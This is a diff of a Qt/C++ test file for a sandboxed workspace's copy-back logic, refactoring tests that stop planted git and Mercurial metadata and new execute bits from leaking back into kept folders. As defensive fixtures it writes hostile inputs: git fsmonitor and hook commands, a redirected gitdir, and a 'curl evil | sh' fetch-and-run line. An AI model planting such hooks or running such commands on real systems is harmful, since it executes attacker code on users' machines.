@@ -26,6 +26,11 @@ bool setMode(const QString &path, mode_t mode)
     return ::chmod(QFile::encodeName(path).constData(), mode) == 0;
 }
 
+bool writeWithMode(const QString &path, const QByteArray &content, mode_t mode)
+{
+    return writeFile(path, content) && setMode(path, mode);
+}
+
 const QByteArray kConfig = "[core]\n\trepositoryformatversion = 0\n";
 
 // A kept folder and a run's /work beside it.
@@ -86,68 +91,58 @@ private Q_SLOTS:
     void versionControlMetadataNeitherGoesInNorComesBack()
     {
         const Folders f;
-        const QString &kept = f.kept;
-        const QString &run = f.run;
         // A git checkout, with a git worktree (.git as a file), Mercurial and Subversion below.
-        writeFile(kept + QStringLiteral("/main.py"), "print(1)\n");
-        writeFile(kept + QStringLiteral("/.git/config"), kConfig);
-        writeFile(kept + QStringLiteral("/.git/HEAD"), "ref: refs/heads/main\n");
-        writeFile(kept + QStringLiteral("/tree/.git"), "gitdir: ../.git/worktrees/tree\n");
-        writeFile(kept + QStringLiteral("/lib/.hg/hgrc"), "[ui]\n");
-        writeFile(kept + QStringLiteral("/lib/.SVN/entries"), "12\n");
+        writeFile(f.kept + QStringLiteral("/main.py"), "print(1)\n");
+        writeFile(f.kept + QStringLiteral("/.git/config"), kConfig);
+        writeFile(f.kept + QStringLiteral("/.git/HEAD"), "ref: refs/heads/main\n");
+        writeFile(f.kept + QStringLiteral("/tree/.git"), "gitdir: ../.git/worktrees/tree\n");
+        writeFile(f.kept + QStringLiteral("/lib/.hg/hgrc"), "[ui]\n");
+        writeFile(f.kept + QStringLiteral("/lib/.SVN/entries"), "12\n");
         QVERIFY(f.copyIn());
-        QCOMPARE(readFile(run + QStringLiteral("/main.py")), QByteArray("print(1)\n"));
+        QCOMPARE(readFile(f.run + QStringLiteral("/main.py")), QByteArray("print(1)\n"));
         for (const char *name : {"/.git", "/tree/.git", "/lib/.hg", "/lib/.SVN"})
-            QVERIFY2(!QFileInfo::exists(run + QLatin1String(name)), name);
+            QVERIFY2(!QFileInfo::exists(f.run + QLatin1String(name)), name);
 
         // What the program planted: commands for git to run, in the places it looks.
-        writeFile(run + QStringLiteral("/.git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
-        writeFile(run + QStringLiteral("/.git/hooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n");
-        writeFile(run + QStringLiteral("/tree/.git"), "gitdir: /tmp/evil\n");
-        writeFile(run + QStringLiteral("/lib/.hg/hgrc"), "[hooks]\npre-commit = touch /tmp/pwned\n");
-        writeFile(run + QStringLiteral("/new/.Git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
-        QVERIFY(KeptWorkspace::copyBack(run, kept));
-        QCOMPARE(readFile(kept + QStringLiteral("/.git/config")), kConfig);
-        QVERIFY(!QFileInfo::exists(kept + QStringLiteral("/.git/hooks")));
-        QCOMPARE(readFile(kept + QStringLiteral("/.git/HEAD")), QByteArray("ref: refs/heads/main\n"));
-        QCOMPARE(readFile(kept + QStringLiteral("/tree/.git")), QByteArray("gitdir: ../.git/worktrees/tree\n"));
-        QCOMPARE(readFile(kept + QStringLiteral("/lib/.hg/hgrc")), QByteArray("[ui]\n"));
-        QCOMPARE(readFile(kept + QStringLiteral("/lib/.SVN/entries")), QByteArray("12\n"));
-        QVERIFY(QFileInfo(kept + QStringLiteral("/new")).isDir());
-        QVERIFY(!QFileInfo::exists(kept + QStringLiteral("/new/.Git")));
+        writeFile(f.run + QStringLiteral("/.git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
+        writeFile(f.run + QStringLiteral("/.git/hooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n");
+        writeFile(f.run + QStringLiteral("/tree/.git"), "gitdir: /tmp/evil\n");
+        writeFile(f.run + QStringLiteral("/lib/.hg/hgrc"), "[hooks]\npre-commit = touch /tmp/pwned\n");
+        writeFile(f.run + QStringLiteral("/new/.Git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
+        QVERIFY(KeptWorkspace::copyBack(f.run, f.kept));
+        QCOMPARE(readFile(f.kept + QStringLiteral("/.git/config")), kConfig);
+        QVERIFY(!QFileInfo::exists(f.kept + QStringLiteral("/.git/hooks")));
+        QCOMPARE(readFile(f.kept + QStringLiteral("/.git/HEAD")), QByteArray("ref: refs/heads/main\n"));
+        QCOMPARE(readFile(f.kept + QStringLiteral("/tree/.git")), QByteArray("gitdir: ../.git/worktrees/tree\n"));
+        QCOMPARE(readFile(f.kept + QStringLiteral("/lib/.hg/hgrc")), QByteArray("[ui]\n"));
+        QCOMPARE(readFile(f.kept + QStringLiteral("/lib/.SVN/entries")), QByteArray("12\n"));
+        QVERIFY(QFileInfo(f.kept + QStringLiteral("/new")).isDir());
+        QVERIFY(!QFileInfo::exists(f.kept + QStringLiteral("/new/.Git")));
     }
 
     void writtenBackFilesGainNoExecuteBit()
     {
         const Folders f;
-        const QString &kept = f.kept;
-        const QString &run = f.run;
-        writeFile(kept + QStringLiteral("/notes.sh"), "echo notes\n");
-        writeFile(kept + QStringLiteral("/build.sh"), "make\n");
-        writeFile(kept + QStringLiteral("/secret.txt"), "s\n");
-        QVERIFY(setMode(kept + QStringLiteral("/notes.sh"), 0644));
-        QVERIFY(setMode(kept + QStringLiteral("/build.sh"), 0750));
-        QVERIFY(setMode(kept + QStringLiteral("/secret.txt"), 0600));
+        QVERIFY(writeWithMode(f.kept + QStringLiteral("/notes.sh"), "echo notes\n", 0644));
+        QVERIFY(writeWithMode(f.kept + QStringLiteral("/build.sh"), "make\n", 0750));
+        QVERIFY(writeWithMode(f.kept + QStringLiteral("/secret.txt"), "s\n", 0600));
         QVERIFY(f.copyIn());
         // Coming in, a file keeps its mode: the learner's own script still runs.
-        QCOMPARE(modeOf(run + QStringLiteral("/build.sh")), mode_t(0750));
+        QCOMPARE(modeOf(f.run + QStringLiteral("/build.sh")), mode_t(0750));
 
         // The program makes a file executable, changes another, and makes a new one executable.
-        writeFile(run + QStringLiteral("/notes.sh"), "curl evil | sh\n");
-        writeFile(run + QStringLiteral("/build.sh"), "make all\n");
-        writeFile(run + QStringLiteral("/secret.txt"), "t\n");
-        writeFile(run + QStringLiteral("/bin/ls"), "#!/bin/sh\ncurl evil | sh\n");
-        QVERIFY(setMode(run + QStringLiteral("/notes.sh"), 0777));
-        QVERIFY(setMode(run + QStringLiteral("/secret.txt"), 0666));
-        QVERIFY(setMode(run + QStringLiteral("/bin/ls"), 0755));
-        QVERIFY(KeptWorkspace::copyBack(run, kept));
-        QCOMPARE(readFile(kept + QStringLiteral("/notes.sh")), QByteArray("curl evil | sh\n"));
-        QCOMPARE(modeOf(kept + QStringLiteral("/notes.sh")), mode_t(0644));
-        QCOMPARE(readFile(kept + QStringLiteral("/build.sh")), QByteArray("make all\n"));
-        QCOMPARE(modeOf(kept + QStringLiteral("/build.sh")), mode_t(0750));
-        QCOMPARE(modeOf(kept + QStringLiteral("/secret.txt")), mode_t(0600));
-        QCOMPARE(readFile(kept + QStringLiteral("/bin/ls")), QByteArray("#!/bin/sh\ncurl evil | sh\n"));
-        QCOMPARE(modeOf(kept + QStringLiteral("/bin/ls")) & 0111, mode_t(0));
+        QVERIFY(writeWithMode(f.run + QStringLiteral("/notes.sh"), "curl evil | sh\n", 0777));
+        QVERIFY(writeFile(f.run + QStringLiteral("/build.sh"), "make all\n"));
+        QVERIFY(writeWithMode(f.run + QStringLiteral("/secret.txt"), "t\n", 0666));
+        QVERIFY(writeWithMode(f.run + QStringLiteral("/bin/ls"), "#!/bin/sh\ncurl evil | sh\n", 0755));
+        QVERIFY(KeptWorkspace::copyBack(f.run, f.kept));
+        QCOMPARE(readFile(f.kept + QStringLiteral("/notes.sh")), QByteArray("curl evil | sh\n"));
+        QCOMPARE(modeOf(f.kept + QStringLiteral("/notes.sh")), mode_t(0644));
+        QCOMPARE(readFile(f.kept + QStringLiteral("/build.sh")), QByteArray("make all\n"));
+        QCOMPARE(modeOf(f.kept + QStringLiteral("/build.sh")), mode_t(0750));
+        QCOMPARE(modeOf(f.kept + QStringLiteral("/secret.txt")), mode_t(0600));
+        QCOMPARE(readFile(f.kept + QStringLiteral("/bin/ls")), QByteArray("#!/bin/sh\ncurl evil | sh\n"));
+        QCOMPARE(modeOf(f.kept + QStringLiteral("/bin/ls")) & 0111, mode_t(0));
     }
 
     void aBigHistoryDoesNotCountAgainstTheWorkspace()
